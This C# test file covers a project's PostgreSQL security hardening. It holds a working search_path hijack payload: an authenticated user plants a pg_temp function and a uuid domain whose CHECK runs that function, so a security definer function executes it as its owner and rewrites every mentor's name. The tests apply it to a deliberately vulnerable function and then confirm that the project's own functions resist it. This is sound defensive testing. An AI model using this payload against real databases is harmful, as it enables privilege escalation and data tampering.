using MentorStatus.Tooling.Security;
using MentorStatus.Tests.Infrastructure;
using Npgsql;

namespace MentorStatus.Tests.Security;

/// <summary>
/// Issue 10 part 3, the attack itself: a signed-in user with a SQL session shadows <c>uuid</c> with a
/// temporary domain whose CHECK runs their function, then calls a security definer function. Where the
/// definer resolves <c>uuid</c> through the caller's pg_temp (search_path '' or missing), the CHECK runs as
/// the function's owner and rewrites every mentor's name. The functions of the project (search_path
/// pg_catalog, pg_temp) must resist it. On main, change_mentor_status (search_path '', DECLARE v_actor uuid)
/// falls to it.
/// </summary>
public sealed class TempSchemaAttackTests
{
    private static readonly Lazy<Task<MentorStatus.Database.DatabaseTarget>> Database = new(() => TestDatabases.SeededAsync("tempattack"));

    /// <summary>As Alva (authenticated): the attacker's function and the domain that calls it, in pg_temp.</summary>
    private const string PlantAttack = """
        create function pg_temp.evil(u pg_catalog.uuid) returns boolean language plpgsql as $f$
        begin
            update public.peer_mentors set display_name = 'pwned by ' || current_user;
            return true;
        end
        $f$;
        create domain pg_temp.uuid as pg_catalog.uuid check (pg_temp.evil(value));
        """;

    private static async Task<long> PwnedAsync(NpgsqlConnection connection)
    {
        await connection.ResetRoleAsync();
        return await connection.ValueAsync<long>("select count(*) from public.peer_mentors where display_name like 'pwned%'");
    }

    [Fact]
    public async Task TheAttackWorksOnADefinerFunctionWithAnEmptySearchPath()
    {
        await using var dataSource = (await Database.Value).CreateDataSource();
        await using var connection = await dataSource.OpenConnectionAsync();
        await using var tx = await connection.BeginTransactionAsync();
        await connection.RunAsync("""
            create function mentor_status_private.vulnerable_copy() returns int language plpgsql security definer set search_path = ''
            as $$ declare v uuid; begin v := auth.uid(); return 1; end $$;
            grant execute on function mentor_status_private.vulnerable_copy() to authenticated;
            """);
        await connection.ActAsAsync(Seed.Actors["alva"]);
        await connection.RunAsync(PlantAttack);
        await connection.RunAsync("select mentor_status_private.vulnerable_copy()");

        Assert.Equal(7, await PwnedAsync(connection)); // every mentor, not only what Alva may see: it ran as the owner
        Assert.Equal("pwned by postgres", await connection.ValueAsync<string>("select min(display_name) from public.peer_mentors"));
    }

    [Fact]
    public async Task DbSecurityCatchesTheVulnerableFunction()
    {
        var target = await TestDatabases.MigratedAsync("tempattackcheck");
        await using var dataSource = target.CreateDataSource();
        await dataSource.ExecuteAsync("create function mentor_status_private.vulnerable_copy() returns int language plpgsql security definer set search_path = '' as $$ declare v uuid; begin v := auth.uid(); return 1; end $$");
        var failing = await SecurityInvariants.FindViolationsAsync(dataSource);
        Assert.Equal(["definer_search_path_pg_temp_not_last: security definer function mentor_status_private.vulnerable_copy() has search_path '' (empty)"],
            failing.Select(f => f[..f.IndexOf(':', f.IndexOf(':') + 1)]));
    }

    /// <summary>Every way a signed-in user reaches the project's definer functions: the rpc and every policy's helpers.</summary>
    public static TheoryData<string> Calls() => new(
        "select public.change_mentor_status('00000000-0000-4000-a004-000000000001', 'paused', 'self_pause')",
        "select count(*) from public.peer_mentor_status_history",
        "select count(*) from public.peer_mentors",
        "select count(*) from public.chapter_memberships",
        "select count(*) from public.chapters",
        "select count(*) from public.organisations",
        "select count(*) from public.coordinator_assignments");

    [Theory]
    [MemberData(nameof(Calls))]
    public async Task TheAttackFailsOnTheProjectsFunctions(string call)
    {
        await using var dataSource = (await Database.Value).CreateDataSource();
        await using var connection = await dataSource.OpenConnectionAsync();
        await using var tx = await connection.BeginTransactionAsync();
        await connection.ActAsAsync(Seed.Actors["alva"]);
        await connection.RunAsync(PlantAttack);
        await connection.RunAsync(call); // must work normally, with the attacker's domain in place

        Assert.Equal(0, await PwnedAsync(connection));
    }

    [Fact]
    public async Task EveryDefinerFunctionOfTheProjectNamesPgTempLast()
    {
        await using var dataSource = (await Database.Value).CreateDataSource();
        var unpinned = await dataSource.ColumnAsync("""
            select p.oid::regprocedure::text from pg_proc p join pg_namespace n on n.oid = p.pronamespace
            where p.prosecdef and n.nspname in ('public', 'mentor_status_private')
              and not coalesce(p.proconfig @> array['search_path=pg_catalog, pg_temp'], false)
            """);
        Assert.Empty(unpinned);
        Assert.True(await dataSource.ScalarAsync<long>("select count(*) from pg_proc where prosecdef and pronamespace = 'mentor_status_private'::regnamespace") >= 7);
    }
}
